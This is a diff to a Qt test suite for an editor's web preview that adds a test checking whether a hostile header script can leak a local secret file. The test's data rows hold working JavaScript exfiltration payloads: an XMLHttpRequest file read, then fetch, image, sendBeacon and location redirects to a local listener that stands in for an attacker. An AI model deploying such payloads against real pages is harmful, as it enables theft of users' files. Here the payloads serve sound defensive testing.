@@ -11,6 +11,8 @@
 #include <QPlainTextEdit>
 #include <QSignalSpy>
 #include <QTabWidget>
+#include <QTcpServer>
+#include <QTcpSocket>
 #include <QTemporaryDir>
 #include <QtTest>
 #include <csignal>
@@ -67,6 +69,8 @@ private slots:
     void initTestCase();
     void launcherLinksAreRefused_data();
     void launcherLinksAreRefused();
+    void hostileHeaderSendsNothing_data();
+    void hostileHeaderSendsNothing();
     void otherPageLoadsAndLeavingBlanks();
     void missingModuleIsReportedInTheTab();
     void signalEndsEditorWithoutAsking_data();
@@ -75,6 +79,8 @@ private slots:
 private:
     QTemporaryDir dir;
     test::ScriptedPrompter prompter;
+    QTcpServer server; // where a hostile page would send what it read
+    QByteArray received;
 };
 
 void TestPreviewWeb::initTestCase() {
@@ -83,6 +89,13 @@ void TestPreviewWeb::initTestCase() {
     QFile other(dir.filePath("other.htm"));
     QVERIFY(other.open(QIODevice::WriteOnly));
     other.write("<html><body>other</body></html>");
+    QFile secret(dir.filePath("secret.txt"));
+    QVERIFY(secret.open(QIODevice::WriteOnly) && secret.write("top secret") > 0);
+    QVERIFY(server.listen(QHostAddress::LocalHost));
+    connect(&server, &QTcpServer::newConnection, this, [this] {
+        while (QTcpSocket* s = server.nextPendingConnection())
+            connect(s, &QTcpSocket::readyRead, s, [s, this] { received += s->readAll(); });
+    });
 }
 
 void TestPreviewWeb::launcherLinksAreRefused_data() {
@@ -110,6 +123,61 @@ void TestPreviewWeb::launcherLinksAreRefused() {
     QCOMPARE(refused.first().first().toUrl().toString(), href);
     QTest::qWait(300);
     QCOMPARE(shownUrl(browser), QUrl::fromLocalFile(previewFilePath()));
+}
+
+void TestPreviewWeb::hostileHeaderSendsNothing_data() {
+    QTest::addColumn<QString>("script"); // added to a page that defines read() and L
+    QTest::addColumn<QString>("act");    // what the user does: click "empty" or "link", key "Down"
+    QTest::newRow("read on load, sent to a &comma; address")
+        << "addEventListener('load', () => location = L + read())"
+        << "";
+    QTest::newRow("read on load, sent by requests")
+        << "addEventListener('load', () => { const d = read(); fetch(L + d, {mode: "
+           "'no-cors'}); new Image().src = L + d; navigator.sendBeacon(L, d); })"
+        << "";
+    QTest::newRow("read on a click elsewhere")
+        << "addEventListener('mousedown', () => location = L + read())"
+        << "empty";
+    QTest::newRow("read on a key press")
+        << "addEventListener('keydown', () => location = L + read())"
+        << "Down";
+    QTest::newRow("user's click on a link goes out") << ""
+                                                     << "link";
+}
+
+void TestPreviewWeb::hostileHeaderSendsNothing() {
+    QFETCH(QString, script);
+    QFETCH(QString, act);
+    received.clear();
+    const QString address = QStringLiteral("http://127.0.0.1:%1/leak").arg(server.serverPort());
+    MainWindow w(&prompter);
+    w.start({});
+    w.doc().setSetting(
+        "Header HTML",
+        "<a href=\"" + address +
+            "?clicked\" style=\"position: fixed; left: 0; top: 0; width: 60px; height: 60px; "
+            "display: block\">Out</a><script>const L = '" +
+            address +
+            "&comma;?d='; function read() { try { const x = new XMLHttpRequest(); x.open('GET', "
+            "'secret.txt', false); x.send(); return x.responseText; } catch (e) { return "
+            "'none'; } } " +
+            script + "</script>");
+    w.show();
+    QVERIFY(QTest::qWaitForWindowExposed(&w));
+    QWidget* browser = showPreview(w);
+    QVERIFY(browser && browser->focusProxy());
+    QWidget* input = browser->focusProxy();
+    if (act == QLatin1String("Down"))
+        QTest::keyClick(input, Qt::Key_Down);
+    else if (!act.isEmpty())
+        QTest::mouseClick(input, Qt::LeftButton, {},
+                          act == QLatin1String("link") ? QPoint(30, 30)
+                                                       : QPoint(input->width() - 5, 100));
+    if (act == QLatin1String("link"))
+        QTRY_VERIFY_WITH_TIMEOUT(received.startsWith("GET /leak?clicked "), 10000);
+    else
+        QTest::qWait(3000);
+    QVERIFY2(act == QLatin1String("link") || received.isEmpty(), received.constData());
 }
 
 void TestPreviewWeb::otherPageLoadsAndLeavingBlanks() {
